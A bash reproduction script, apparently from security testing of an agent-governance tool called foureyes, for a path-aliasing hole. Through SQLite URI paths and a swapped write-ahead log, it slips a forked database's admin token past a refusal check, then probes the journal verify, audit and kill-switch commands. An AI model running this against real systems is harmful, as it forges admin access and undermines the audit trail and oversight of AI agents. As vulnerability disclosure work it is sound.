#!/bin/bash
# HOLE repro: `--db file:A.db` (SQLite URI form, accepted by the write doors) keeps its record at `file:A.db.head`,
# not A.db.head: a fork's log that every plain-path door refuses (ADR-1400, exit 8) is applied through it.
F=/work/attack44/foureyes; export FOUREYES_POLICY=/work/attack44/scripts/policy.yaml
W=/tmp/attack44/uf; rm -rf $W; mkdir -p $W; cd $W
$F --db A.db token create --name bot --role agent >/dev/null
$F --db A.db decide --agent bot --action t.act --params '{"n":0}' --request-id init >/dev/null
# A and its fork B; each side's newest event kept in its own log (a reader pins the log while the door commits)
python3 - <<'PY'
import sqlite3,subprocess,shutil
F="/work/attack44/foureyes"
shutil.copy("A.db","B.db")
c=sqlite3.connect("file:B.db?mode=ro",uri=True); c.execute("begin"); c.execute("select count(*) from journal").fetchall()
subprocess.run([F,"--db","B.db","token","create","--name","onlyB","--role","admin"],stdout=subprocess.DEVNULL,check=True)
shutil.copy("B.db-wal","Bwal"); c.rollback(); c.close()
a=sqlite3.connect("file:A.db?mode=ro",uri=True); a.execute("begin"); a.execute("select count(*) from journal").fetchall()
subprocess.run([F,"--db","A.db","token","create","--name","onlyA","--role","admin"],stdout=subprocess.DEVNULL,check=True)
# A's own log now holds onlyA; replace it with the fork's log (as attack 41's H1), the reader still pinning A
import os
os.replace("Bwal","A.db-wal")
try: os.remove("A.db-shm")
except FileNotFoundError: pass
a.close()
PY
echo "A.db.head: $(grep '^last' A.db.head)"; ls
$F --db A.db journal verify >o 2>&1; echo "plain  journal verify rc=$? $(head -c 160 o)"
$F --db A.db kill-switch on >o 2>&1; echo "plain  kill-switch on rc=$? $(head -c 160 o)"
$F --db file:A.db kill-switch on >o 2>&1; echo "file:  kill-switch on rc=$? $(head -c 160 o)"
ls
echo "A.db alone now: tokens $(sqlite3 'file:A.db?immutable=1' 'select group_concat(name) from tokens')"
$F --db A.db journal verify >o 2>&1; echo "plain  journal verify after rc=$? $(head -c 160 o)"
$F --db A.db journal audit >o 2>&1; echo "plain  journal audit after rc=$? $(head -c 160 o)"
$F --db A.db decide --agent bot --action t.act --params '{"n":9}' >o 2>&1; echo "plain decide after rc=$? $(head -c 100 o)"
